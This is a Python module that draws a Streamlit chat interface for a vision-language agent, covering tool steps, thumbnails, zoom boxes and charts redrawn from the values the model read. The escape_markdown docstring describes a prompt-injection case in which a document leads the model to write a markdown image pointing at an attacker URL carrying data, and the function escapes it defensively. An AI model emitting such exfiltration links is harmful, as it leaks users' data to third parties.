"""What the page draws for a conversation: turns, tool steps, thumbnails, zoom boxes, charts.

The records (``Picture``, ``StepView``, ``Turn``) hold everything a turn needs to be drawn again on a
rerun, including small copies of the images a step looked at, so earlier turns never depend on the
image store. The pure helpers (``thumbnail``, ``draw_box``, ``chart_table``, ``chart_plot``) work on
Pillow images and plain data; the ``show_*`` functions turn records into Streamlit elements.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from typing import Any, Literal

import altair as alt
import pandas as pd
import streamlit as st
from PIL import Image, ImageDraw

from qwenvl_agent.agent import ToolResult
from qwenvl_agent.tools import ChartData, ImageStore, UnknownImageError
from qwenvl_agent.vlm.images import RELATIVE_MAX  # zoom boxes come on Qwen's 0-1000 grid

THUMBNAIL_SIDE = 320  # gallery and question thumbnails
STEP_IMAGE_SIDE = 900  # what a step looked at: large enough to read a zoomed crop
BOX_COLOR = (230, 40, 40)

LINE_CHARTS = {"line", "area", "scatter"}


@dataclass
class Picture:
    caption: str
    image: Image.Image


@dataclass
class StepView:
    """One tool step as shown: the call at once, the result when it arrives."""

    number: int
    tool: str
    args: dict[str, Any]
    thought: str = ""
    done: bool = False
    output: str = ""
    seconds: float | None = None
    is_error: bool = False
    pictures: list[Picture] = field(default_factory=list)
    chart: dict[str, Any] | None = None


@dataclass
class Turn:
    """One message of the conversation. An assistant turn keeps its steps, answer and errors."""

    role: Literal["user", "assistant"]
    text: str = ""
    pictures: list[Picture] = field(default_factory=list)
    steps: list[StepView] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)
    label: str = ""
    state: Literal["running", "complete", "error", "stopped"] = "running"


# Pure helpers


MAX_THUMBNAIL_ASPECT = 8  # a thinner image is shown on a white band, or its thumbnail would vanish


def thumbnail(image: Image.Image, max_side: int = THUMBNAIL_SIDE) -> Image.Image:
    """A copy no larger than ``max_side`` on its long side (the store's images stay untouched)."""
    copy = image.convert("RGB") if image.mode != "RGB" else image.copy()
    copy.thumbnail((max_side, max_side))
    width, height = copy.size
    band = (max(width, -(-height // MAX_THUMBNAIL_ASPECT)), max(height, -(-width // MAX_THUMBNAIL_ASPECT)))
    if band != (width, height):
        padded = Image.new("RGB", band, "white")
        padded.paste(copy, ((band[0] - width) // 2, (band[1] - height) // 2))
        copy = padded
    return copy


def draw_box(image: Image.Image, box: Sequence[float], max_side: int = STEP_IMAGE_SIDE) -> Image.Image:
    """A reduced copy of ``image`` with ``box`` (x1, y1, x2, y2 on the 0-1000 grid) drawn on it."""
    return draw_boxes(image, [box], max_side=max_side)


def draw_boxes(
    image: Image.Image, boxes: Sequence[Sequence[float]], labels: Sequence[str] = (), max_side: int = STEP_IMAGE_SIDE
) -> Image.Image:
    """A reduced copy of ``image`` with ``boxes`` (0-1000 grid) drawn on it, each with its label if given."""
    copy = thumbnail(image, max_side)
    width, height = copy.size
    line = max(2, round(max(width, height) / 150))
    draw = ImageDraw.Draw(copy)
    for index, box in enumerate(boxes):
        x1, y1, x2, y2 = (min(max(float(v), 0.0), RELATIVE_MAX) / RELATIVE_MAX for v in box)
        corner = (x1 * width, y1 * height)
        draw.rectangle(
            [corner, (max(x2 * width - 1, corner[0]), max(y2 * height - 1, corner[1]))], outline=BOX_COLOR, width=line
        )
        if index < len(labels) and labels[index]:
            draw.text((corner[0] + line, max(0, corner[1] - 16)), labels[index][:40], fill=BOX_COLOR)
    return copy


def chart_table(chart: dict[str, Any]) -> pd.DataFrame:
    """A chart's values as a table: one row per category, one column per series. ``ChartData`` pads the
    lists to one length and names the series; here blank or repeated category labels are made distinct."""
    data = ChartData.model_validate(chart)
    names = [series.name for series in data.series]
    table = pd.DataFrame(data.to_rows(), columns=["category", *names])
    table["category"] = _unique([str(c) for c in table["category"]], "category")
    return table.astype({name: "float64" for name in names})


def chart_plot(chart: dict[str, Any]) -> alt.Chart | None:
    """The chart drawn again from its values (bars, or lines for line/area/scatter charts), categories in
    the order the model read them; None when there is nothing to draw."""
    table = chart_table(chart)
    if table.empty or len(table.columns) < 2:
        return None
    long = table.melt(id_vars="category", var_name="series", value_name="value").dropna(subset=["value"])
    if long.empty:
        return None
    categories = list(table["category"])
    angle = 0 if len(categories) <= 6 else -45  # long lists of labels only fit slanted
    x = alt.X("category:N", sort=categories, title=chart.get("x_axis") or None, axis=alt.Axis(labelAngle=angle))
    y = alt.Y("value:Q", title=chart.get("y_axis") or None)
    several = len(table.columns) > 2
    color = alt.Color("series:N", legend=alt.Legend(orient="bottom", title=None) if several else None)
    base = alt.Chart(long)
    if str(chart.get("chart_type", "")).lower() in LINE_CHARTS:
        plot = base.mark_line(point=True).encode(x=x, y=y, color=color)
    else:
        plot = base.mark_bar().encode(x=x, y=y, color=color, xOffset="series:N")
    return plot.properties(title=chart.get("title") or "Redrawn from the values read", height=300)


def step_pictures(result: ToolResult, store: ImageStore) -> list[Picture]:
    """Small copies of what a tool looked at: for a zoom, the source with the box drawn on it and the crop."""
    data = result.data or {}
    if result.name == "locate_in_image" and data.get("boxes") and result.image_ids:
        image_id = result.image_ids[0]
        try:
            image = store.get(image_id)
        except UnknownImageError:
            return []
        boxes = [b["bbox_2d"] for b in data["boxes"]]
        marked = draw_boxes(image, boxes, [b.get("label", "") for b in data["boxes"]])
        return [Picture(f"{image_id}: {len(boxes)} found", marked)]
    if result.name == "zoom_image" and data.get("box") and len(result.image_ids) == 2:
        parent, crop = result.image_ids
        box = ", ".join(f"{v:g}" for v in data["box"])
        pictures = [_picture(store, parent, f"{parent}, box [{box}]", box=data["box"]), _picture(store, crop, crop)]
    else:
        pictures = [_picture(store, image_id, image_id) for image_id in result.image_ids]
    return [p for p in pictures if p is not None]


def format_args(args: dict[str, Any]) -> str:
    """``image_id="img-1", box=[0, 0, 500, 500]``: a tool call's arguments on one line."""
    return ", ".join(f"{name}={json.dumps(value, ensure_ascii=False)}" for name, value in args.items())


def escape_markdown(text: str) -> str:
    """Model text shown as written: ``$`` would otherwise start LaTeX in Streamlit's markdown, and brackets
    and angle brackets could form images or links. A document can carry instructions that make a model
    write ``![](https://attacker/?data=…)``: shown as text, it never loads."""
    for character in ("\\", "$", "[", "]", "<", ">"):
        text = text.replace(character, "\\" + character)
    return text


def pieces(text: str) -> Iterator[str]:
    """Words with their trailing spaces, for ``st.write_stream`` of an answer that arrived whole."""
    yield from re.findall(r"\s*\S+\s*|\s+", text)


def _picture(store: ImageStore, image_id: str, caption: str, box=None) -> Picture | None:
    try:
        image = store.get(image_id)
    except UnknownImageError:
        return None
    copy = draw_box(image, box) if box is not None else thumbnail(image, STEP_IMAGE_SIDE)
    return Picture(caption, copy)


def _unique(labels: list[str], blank: str) -> list[str]:
    """Labels made non-empty and distinct (tables and charts need that), in order."""
    seen: set[str] = set()
    unique = []
    for index, label in enumerate(labels, start=1):
        label = label.strip() or f"{blank} {index}"
        candidate, n = label, 2
        while candidate in seen:
            candidate, n = f"{label} ({n})", n + 1
        seen.add(candidate)
        unique.append(candidate)
    return unique


# Streamlit


def show_pictures(pictures: Sequence[Picture], width: int = 160) -> None:
    if pictures:
        st.image([p.image for p in pictures], caption=[p.caption for p in pictures], width=width)


def show_turn(turn: Turn) -> Any:
    """A turn from the history: the question with its thumbnails (and how it was asked), or the steps
    (collapsed) and the answer. Returns its chat message, to add to."""
    bubble = st.chat_message(turn.role)
    with bubble:
        if turn.role == "user":
            if turn.text:
                st.markdown(escape_markdown(turn.text))
            for note in turn.notes:
                st.caption(note)
            show_pictures(turn.pictures)
            return bubble
        for note in turn.notes:
            icon = ":material/stop_circle:" if turn.state == "stopped" else ":material/hourglass_top:"
            st.info(note, icon=icon)
        if turn.steps or turn.label or turn.state == "running":
            # A turn still "running" here was cut off before it could record how (it should not happen)
            label, state = (turn.label, turn.state) if turn.state != "running" else ("Interrupted", "error")
            state = "complete" if state == "stopped" else state
            with st.status(label or "Steps", state=state, expanded=False):
                show_steps(turn.steps)
        for message in turn.errors:
            st.error(message)
        if turn.text:
            st.markdown(escape_markdown(turn.text))
    return bubble


def show_steps(steps: Sequence[StepView]) -> None:
    if not steps:
        st.caption("The planner answered without using a tool.")
    for step in steps:
        show_step(step)


def show_step(step: StepView) -> None:
    """Tool, arguments, what it looked at, what it returned and how long it took."""
    timing = f" · {step.seconds:.2f} s" if step.seconds is not None else " · running…"
    st.markdown(f"**{step.number}. `{step.tool}`**{timing}")
    st.code(format_args(step.args) or "(no arguments)", language=None, wrap_lines=True)
    if step.thought:
        st.caption(f"Planner: {escape_markdown(step.thought.strip())}")
    if not step.done:
        return
    if step.chart is not None and not step.is_error:
        show_chart(step.chart, step.pictures)
    else:
        show_pictures(step.pictures, width=240 if step.tool == "zoom_image" else 200)
        if step.is_error:
            st.warning(f"The tool failed: {escape_markdown(step.output)}")
        elif step.output:
            st.code(step.output, language=None, wrap_lines=True)


def show_chart(chart: dict[str, Any], pictures: Sequence[Picture]) -> None:
    """The original chart beside the one redrawn from the values read, then the values as a table."""
    left, right = st.columns(2)
    with left:
        for picture in pictures[:1]:
            st.image(picture.image, caption=f"{picture.caption} (original)")
    with right:
        plot = chart_plot(chart)
        if plot is None:
            st.caption("No values to draw.")
        else:
            st.altair_chart(plot, width="stretch")
    facts = [f"type: {chart.get('chart_type') or 'unknown'}"]
    facts += [f"{axis.replace('_', ' ')}: {chart[axis]}" for axis in ("x_axis", "y_axis") if chart.get(axis)]
    st.caption(" · ".join(facts))
    table = chart_table(chart)
    if not table.empty:
        st.dataframe(table, hide_index=True)
    if chart.get("answer"):
        st.markdown(f"Chart answer: {escape_markdown(str(chart['answer']))}")
